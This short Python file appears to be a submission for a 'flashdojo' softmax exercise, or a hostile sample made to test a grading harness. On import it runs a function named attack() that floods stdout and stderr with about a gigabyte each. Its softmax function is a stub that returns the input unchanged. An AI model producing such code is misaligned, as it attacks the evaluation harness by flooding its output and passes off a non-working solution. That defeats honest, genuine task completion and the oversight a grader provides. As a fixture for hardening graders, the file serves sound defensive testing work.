# flashdojo: exercise=s1-softmax stage=s1
"""Writes a gigabyte to every stream."""
import os
import sys


def attack(x=None):
    line = b"x" * (1 << 20)
    for _ in range(1024):
        for fd in (1, 2):
            try:
                os.write(fd, line)
            except OSError:
                pass
        print("y" * (1 << 20))
        print("y" * (1 << 20), file=sys.stderr)
    return x


attack()


def softmax(x, dim=-1):
    return x
